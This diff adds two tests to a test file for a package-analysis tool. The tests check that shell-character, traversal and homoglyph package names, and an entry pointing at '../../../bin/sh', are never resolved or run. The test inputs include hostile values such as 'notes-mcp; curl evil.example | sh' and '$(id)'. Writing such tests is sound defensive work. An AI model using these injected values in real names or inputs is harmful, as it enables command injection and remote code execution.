@@ -118,6 +118,38 @@ test('a name with shell characters in a document starts nothing', async () => {
   expect(analysis.launch).toBeNull()
 })
 
+test('a package that names itself with shell characters or look-alike letters is never looked up as another', async () => {
+  for (const name of [
+    'notes-mcp; curl evil.example | sh',
+    '$(id)',
+    '../../notes-mcp',
+    'n\u043etes-mcp',
+    'notes-mcp\u202e',
+  ]) {
+    const analysis = await analyseFiles(
+      {
+        'package.json': JSON.stringify({ name, version: '1.0.0', bin: { notes: 'src/index.ts' } }),
+        'src/index.ts': SERVER,
+      },
+      { 'notes-mcp': 'https://github.com/acme/notes' },
+    )
+    expect(analysis.launch).toMatchObject({
+      package: { registry: 'git' },
+      command: 'notes',
+      build: { path: '', program: { kind: 'node-executable', name: 'notes' } },
+    })
+  }
+})
+
+test('an executable or an entry that leads out of the source is not what runs', async () => {
+  const analysis = await analyseFiles({
+    'package.json': JSON.stringify({ name: 'notes', private: true, main: '../../../bin/sh' }),
+    'src/index.ts': SERVER,
+  })
+  expect(analysis.launch?.build).toBeUndefined()
+  expect(analysis.verdict).toBe('unsupported')
+})
+
 test('orders to a reader of the files change nothing', async () => {
   const analysis = await analyseFiles(
     {
